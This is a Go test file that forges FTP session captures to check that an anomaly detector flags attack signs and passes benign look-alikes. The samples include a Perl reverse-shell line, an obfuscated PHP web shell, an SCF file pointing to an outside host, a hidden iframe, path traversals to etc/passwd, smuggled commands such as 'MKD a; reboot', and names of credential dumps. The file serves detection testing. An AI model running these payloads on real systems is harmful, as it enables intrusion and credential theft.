// Attacks that leave weak signs, and what looks like them.

package baseline

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"ftplab/lab/analysis/baseline/rules"
	"ftplab/lab/internal/forge"
)

// webPage is a page of the web that is longer than a segment.
const webPage = "<html><body>" + "a long text about nothing, "

// weakSigns are what a specialist looks at twice: at least unusual, for that rule.
var weakSigns = []struct {
	name, rule string
	play       func(*forge.Capture)
}{
	{"a REST for each word of a text", "preparations-are-used", session1(numberedLines(14, "> REST 18689839%02d\n< 350 ok\n"))},
	{"a time of a file that changes again and again", "preparations-are-used", session1(numberedLines(14, "> MFMT 202603%02d120000 a\n< 213 ok\n"))},
	{"what programs that steal passwords store", "no-sensitive-names", session1("> STOR System_Info.txt\n< 150 go on\n< 226 done\n> STOR Passwords.txt\n< 150 go on\n< 226 done\n> STOR CreditCards.txt\n< 150 go on\n< 226 done\n> STOR Screenshot.png\n< 150 go on\n< 226 done")},
	{"a name that nobody renames", "preparations-are-used", session1(digests(12, "> RNFR %s\n< 350 and?\n"))},
	{"answers with base64 in several lines", "control-carries-dialogue", session1(numberedLines(7, "> STAT\n< 211-Status\n+  c3l/z+Q%[1]dyRXkP9m/Lw8Zt7aBq4Vd\n+ 211 end\n"))},
	{"empty files whose names are data", "names-are-words", func(f *forge.Capture) {
		t := dial(f, "198.51.100.77", aServer+":21").Say(hello)
		for i := range 14 {
			move(t, 40000+i, fmt.Sprintf("STOR %02d-MFRGGZDFMZTWQ2LKNNWG23TPOBYXE4%dU", i, 2+i%6)+string(rune('A'+i)), "")
		}
		t.Say(bye).Peer.Close()
	}},
	{"a program in every folder", "no-programs", session1(numberedLines(3, "> STOR d%d/Photo.scr\n< 150 go on\n< 226 done\n"))},
	{"many NOOPs, with two kinds of pauses", "control-carries-dialogue", paused(time.Second, strings.Repeat("> NOOP\n< 200 ok\n", 55))},
	{"an upload that the server sends to a host beside the client", "own-address", func(f *forge.Capture) {
		t := dial(f, "10.9.0.8", aServer+":21").Say(hello).Say("> PASV\n< 227 (10,9,0,5,200,3)\n> STOR a\n< 150 go on")
		download(f, "10.9.0.8", "10.9.0.5:51203", opener, 55)
		t.Say("< 226 done").Say(bye).Peer.Close()
	}},
	{"a type that changes again and again", "preparations-are-used", session1(strings.Repeat("> TYPE A\n< 200 ok\n> TYPE I\n< 200 ok\n", 20))},
	{"capital and small letters that carry bits", "control-carries-dialogue", session1("> nOOP\n< 200 ok\n> NoOp\n< 200 ok\n> NOoP\n< 200 ok\n> noOP\n< 200 ok")},
	{"questions about encoded words", "control-carries-dialogue", session1(digests(6, "> HELP %s\n< 502 no\n"))},
	{"answers with encoded words", "control-carries-dialogue", session1(digests(7, "> NOOP\n< 200 %s\n"))},
	{"passwords of anonymous users that are data", "names-are-words", func(f *forge.Capture) {
		for i := range 6 {
			f.Control().Say("< 220 hi\n" + strings.TrimSuffix(digests(i+1, "> USER ftp\n< 331 and?\n> PASS %s\n< 230 in\n"), "\n")).Peer.Close()
		}
	}},
	{"characters that nobody sees", "names-can-be-seen", session1("> STOR report\u200b\u200c\u200b\u200b.txt\n< 150 go on\n< 226 done")},
	{"an ending that is turned around", "names-can-be-seen", session1("> STOR photo\u202egpj.exe\n< 150 go on\n< 226 done")},
	{"a search for users", "no-sensitive-names", session1("> CWD ~ada\n< 550 denied\n> CWD ~bob\n< 550 no such user\n> CWD ~eve\n< 550 no such user\n> CWD ~root\n< 550 denied\n> CWD ~news\n< 550 denied\n> CWD ~games\n< 550 denied")},
	{"a router that runs what it is sent", "no-sensitive-names", session1("> STOR x.auto.rsc\n< 150 go on\n< 226 done")},
	{"an account of a controller's maker", "no-known-exploits", dialogue("< 220 ready\n> USER sysdiag\n< 331 and?\n> PASS x\n< 230 in")},
	{"a greeting that orders a terminal", "reply-of-normal-length", dialogue("< 220 \x1b]2;x\x07\x1b[21t ready\n> QUIT\n< 221 bye")},
	{"a folder that overflows the client", "reply-of-normal-length", session1("> PWD\n< 257 \"" + strings.Repeat("A", 324) + "\" is here")},
	{"a tree without an end", "arguments-of-normal-length", session1(numberedLines(70, "> MKD d%[1]d\n< 257 ok\n> CWD d%[1]d\n< 250 ok\n"))},
	{"a listing that orders a terminal", "no-climbing", moved("LIST", answerer, "-rw-r--r-- 1 0 0 5 Jan 01 2024 a\x1b]0;x\x07\x1b[2J.txt\r\n")},
	{"a listing with a command", "no-climbing", moved("NLST", answerer, "|touch x\r\nb.txt\r\n")},
	{"an icon at another host", "no-loot", moved("STOR @docs.scf", opener, "[Shell]\r\nCommand=2\r\nIconFile=\\\\203.0.113.66\\x\\a.ico\r\n")},
	{"the keys that somebody pressed", "no-loot", moved("STOR log.txt", opener, "ada[TAB]Secr3t[ENTER]\r\ndear[BACKSPACE][BACKSPACE]hello\r\n")},
	{"data that grows without an end", "no-floods", inMode("> MODE Z\n< 200 ok", "x\xda"+strings.Repeat("\x00", 1200))},
	{"passwords that end in a hang-up", "no-guessing", func(f *forge.Capture) {
		for i := range 12 {
			f.Control().Say(fmt.Sprintf("< 220 hi\n> USER bob\n< 331 and?\n> PASS guess%d\n< 421 no, goodbye", i)).Peer.Close()
		}
	}},
	{"a list of the root's neighbours", "no-climbing", session1("> LIST ../../../../\n< 150 here\n< 226 done")},
	{"a path above the root", "no-climbing", session1("> NLST /../../../etc\n< 150 here\n< 226 done")},
	{"the secrets of a user", "no-sensitive-names", session1("> STOR pc7/key4.db\n< 150 go on\n< 226 done\n> STOR pc7/logins.json\n< 150 go on\n< 226 done\n> STOR pc7/wallet.dat\n< 150 go on\n< 226 done")},
	{"a frame that nobody sees", "no-loot", moved("STOR index.html", opener, strings.Repeat(webPage, 40)+`<iframe src="http://203.0.113.66/" width=1 height=1></iframe>`)},
	{"a page that boasts", "no-loot", moved("STOR index.html", opener, "<h1>Hacked by somebody</h1>")},
	{"a program that hides", "no-programs", moved("STOR /tmp/.x", opener, "\x7fELF\x02\x01")},
	{"a program that tells a web server about itself", "no-signs-agree", func(f *forge.Capture) {
		moved("RETR update.bin", answerer, "MZ\x90")(f)
		dial(f, aClient, aServer+":80").Say("> POST /gate HTTP/1.0\n+ \n+ id=7\n< HTTP/1.0 200 OK").Close()
	}},
	{"a program that stores a report", "no-signs-agree", func(f *forge.Capture) {
		moved("RETR a.exe", answerer, "MZ\x90")(f)
		moved("STOR PC-7.txt", opener, "here I am")(f)
	}},
	{"three long texts in commands that take none", "control-carries-dialogue", session1("> NOOP " + strings.Repeat("QWxhZGRpbjpvcGVu", 5) + "\n< 200 ok\n> NOOP " + strings.Repeat("c2VzYW1lIG9wZW4h", 5) + "\n< 200 ok\n> NOOP " + strings.Repeat("dGhpcyBpcyBkYXRh", 5) + "\n< 200 ok")},
	{"texts in commands that take none", "control-carries-dialogue", session1("> NOOP GEZDGNBVGY3TQOJQ\n< 200 ok\n> NOOP MFRGGZDFMZTWQ2LK\n< 200 ok\n> NOOP NNWG23TPOBYXE43U\n< 200 ok\n> NOOP OV3HO6DZPIYTEMZU\n< 200 ok\n> NOOP GU3DOOBZGBQWEY3E\n< 200 ok")},
	{"a crowd that guesses", "no-guessing", func(f *forge.Capture) {
		for i := range 40 {
			dial(f, fmt.Sprintf("203.0.113.%d", i+1), aServer+":21").Say(fmt.Sprintf("< 220 hi\n> USER name%d\n< 331 and?\n> PASS x\n< 530 no", i%10)).Close()
		}
	}},
	{"a traversal encoded twice", "no-climbing", session1("> RETR %252e%252e%252f%252e%252e%252fetc%252fpasswd\n< 550 no")},
	{"a job for the system", "no-sensitive-names", session1("> STOR /etc/cron.d/up\n< 150 go on\n< 226 done")},
	{"a shell for somebody far away", "no-loot", moved("STOR bc.pl", opener, `use Socket; connect(S,$a); exec("/bin/sh -i");`)},
	{"braces for ever", "no-known-exploits", session1("> STAT " + strings.Repeat("{a,b,*}", 8) + "\n< 550 no")},
	{"the note of ransomware", "no-known-exploits", session1("> STOR HOW_TO_DECRYPT.txt\n< 150 go on\n< 226 done")},
	{"a scan without flags", "no-scans", func(f *forge.Capture) {
		for i := range 12 {
			overhear(f, aClient, addrPort(aServer, 20+i)).Segment("", "")
		}
	}},
	{"orders that are carried out", "files-are-fetched-once", session1(numberedLines(10, "> RETR a1.txt\n< 150 here\n< 226 done\n> STOR result%d\n< 150 go on\n< 226 done\n"))},
	{"a file of orders", "files-are-fetched-once", session1(strings.Repeat("> RETR /pub/cmd.txt\n< 150 here\n< 226 done\n", 10))},
	{"random names that nobody has", "names-are-words", session1(numberedLines(9, "> SIZE mR7nQ2x%dLp9Vb3Kt8Yw5Zc1HdGj4Fs\n< 550 no\n"))},
	{"everybody may log in", "no-sensitive-names", session1("> STOR .rhosts\n< 150 go on\n< 226 done")},
	{"a boast about the site", "no-loot", moved("STOR index.html", opener, "<h1>Your website was hacked by somebody</h1>")},
	{"a boast in capitals", "no-loot", moved("STOR index.html", opener, "<h1>HACKED BY SOMEBODY</h1>")},
	{"a program that looks like a document", "no-programs", moved("STOR invoice.pdf.exe", opener, "MZ\x90")},
	{"an odd port and an odd word", "no-signs-agree", func(f *forge.Capture) {
		dial(f, aClient, aServer+":31337").Say(hello).Say("> INJECT 7\n< 200 ok").Say(bye).Peer.Close()
	}},
	{"a program that mines coins", "no-programs", moves([2]string{"STOR xmrig-6.21", "\x7fELF"})},
	{"a loader for devices", "no-programs", moves([2]string{"RETR mirai.arm", "\x7fELF"})},
	{"the memory of the logins", "no-sensitive-names", session1("> STOR lsass_512.dmp\n< 150 go on\n< 226 done")},
	{"the accounts of Windows", "no-sensitive-names", session1("> STOR sam.save\n< 150 go on\n< 226 done")},
	{"files that get the ending of ransomware", "no-known-exploits", session1(numberedLines(4, "> RNFR a%[1]d.doc\n< 350 and?\n> RNTO a%[1]d.doc.locked\n< 250 ok\n"))},
	{"a server that forgets its TLS", "credentials-in-tls", dialogue("< 220 ready\n> FEAT\n< 211-Features:\n+  AUTH TLS\n+  PBSZ\n+ 211 End\n> AUTH TLS\n< 500 what?\n> USER ada\n< 331 and?\n> PASS x\n< 230 in")},
	{"a page that calls what it is sent", "no-loot", moved("STOR a.php", opener, `<?php $f = "sys" . "tem"; $f($_REQUEST["q"]);`)},
	{"hexadecimal digits after SITE", "names-are-words", session1(numberedLines(25, "> SITE CHMOD 644 9f3a%d0c77e1b20\n< 550 no\n"))},
	{"a program that gets its owner's rights", "no-known-exploits", session1("> SITE CHMOD 4755 cgi-bin/x.cgi\n< 200 ok")},
	{"an offset in front of the file", "no-known-exploits", session1("> REST -1\n< 350 ok")},
	{"a command after a blank", "no-known-exploits", session1("> MKD a; reboot\n< 550 no")},
	{"numbers of cards", "no-loot", moves([2]string{"STOR a.csv", cardNumbers(10)})},
	{"a private key", "no-loot", moved("STOR site.pem", opener, "-----BEGIN RSA PRIVATE KEY-----\nMIIE")},
	{"a folder of three points", "no-climbing", session1("> CWD ...\n< 550 no")},
	{"a folder of dots", "names-can-be-seen", session1("> MKD ..  \n< 257 ok")},
}

// numberedLines repeats lines, each time with another number in them.
func numberedLines(n int, lines string) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, lines, i)
	}
	return b.String()
}

func TestWeakSigns(t *testing.T) {
	for _, test := range weakSigns {
		t.Run(test.name, func(t *testing.T) {
			got := forged(t, test.play)
			if count(got, test.rule, rules.Odd)+count(got, test.rule, rules.Violation) == 0 {
				t.Errorf("got %v\nwant %s, for %s", got, IsUnusual, test.rule)
			}
		})
	}
}

// Harmless sessions with something of these signs are normal.
func TestNoSigns(t *testing.T) {
	for _, test := range []struct {
		name string
		play func(*forge.Capture)
	}{
		{"a web site", func(f *forge.Capture) {
			moved("STOR index.php", opener, strings.Repeat(webPage, 40)+`<?php include("head.php"); echo htmlspecialchars($_GET["q"]); ?><iframe src="map.html" width=600></iframe>`)(f)
		}},
		{"a NOOP that always says the same", session1(strings.Repeat("> NOOP keep the connection alive, please\n< 200 ok\n", 10))},
		{"up and down in the tree", session1("> PWD\n< 257 \"/home/ada/a/b\"\n> CWD ../../c\n< 250 ok\n> LIST ../..\n< 150 here\n< 226 done")},
		{"a name of a single letter", session1("> MKD " + strings.Repeat("a", 200) + "\n< 257 ok")},
		{"signs of per cent", session1("> RETR 100%natural%soap%sale.txt\n< 550 no")},
		{"up three levels on Windows", session1("> PWD\n< 257 \"/a/b/c/d\"\n> CWD ..\\..\\..\n< 250 ok")},
		{"a program, and a web server at an odd port", func(f *forge.Capture) {
			moved("RETR setup.exe", answerer, "MZ\x90")(f)
			dial(f, aClient, aServer+":3000").Say("> GET / HTTP/1.1\n< HTTP/1.1 200 OK").Close()
			f.Control().Say(hello + bye).Close()
		}},
		{"a server that asks who its clients are", func(f *forge.Capture) {
			for i := range 20 {
				client := fmt.Sprintf("203.0.113.%d", i+1)
				t := dial(f, client, aServer+":21")
				refuse(f, aServer, client+":113")
				t.Say(hello + bye).Close()
			}
		}},
		{"pages that use what a visitor sends", func(f *forge.Capture) {
			moved("STOR a.php", opener, "<?php $name = htmlspecialchars($_GET['n']); if (isset($_POST['a']) && ($_POST['a'] > 1)) mysql_query(\"SELECT `id` FROM t WHERE `a`='$_GET[n]'\"); echo preg_replace('/<.*>/i', '', $_GET['n']); ?>")(f)
		}},
		{"the end of connections to a server's services, when the capture begins", func(f *forge.Capture) {
			for i := range 12 {
				overhear(f, aClient, addrPort(aServer, 40000+i)).Segment("F.", "")
			}
			session1("")(f)
		}},
		{"a download through a proxy", func(f *forge.Capture) {
			through := func(port string) *forge.End {
				t := dial(f, aClient, aServer+":1080")
				t.Send("\x04\x01" + port + "\xc0\x00\x02\x15\x00")
				t.Peer.Send("\x00\x5a\x00\x00\x00\x00\x00\x00")
				return t
			}
			t := through("\x00\x15").Say(hello).Say("> TYPE I\n< 200 ok\n> PASV\n< 227 (192,0,2,21,100,0)")
			data := through("\x64\x00").Peer
			t.Say("> RETR a\n< 150 here it comes (11 bytes)")
			data.Send("the content")
			data.Close()
			t.Say("< 226 done").Say(bye).Peer.Close()
		}},
		{"one hang-up", func(f *forge.Capture) {
			f.Control().Say("< 220 hi\n> USER ada\n< 331 and?\n> PASS secret\n< 421 too many users").Peer.Close()
		}},
	} {
		t.Run(test.name, func(t *testing.T) {
			if got := forged(t, test.play); got.Verdict != IsNormal {
				t.Errorf("got %v\nwant %s", got, IsNormal)
			}
		})
	}
}

// TestLostReplies has a conversation at the port of a download, with data in both directions. If
// replies are lost, it may be another session's.
func TestLostReplies(t *testing.T) {
	for lost, want := range map[uint32]rules.Severity{0: rules.Violation, 20: rules.Odd} {
		got := forged(t, func(f *forge.Capture) {
			t := f.Control().Say(hello).Say("> PASV\n< 227 (192,0,2,21,100,0)\n> RETR a\n< 150 here")
			dial(f, aClient, aServer+":25600").Say("> a hello of TLS\n< another one").Close()
			t.Peer.Seq += lost
			t.Say("< 226 done").Say(bye).Peer.Close()
		})
		if count(got, "data-flows-one-way", want) != 1 {
			t.Errorf("%d bytes of replies are lost: got %v\nwant %s", lost, got, want)
		}
	}
}
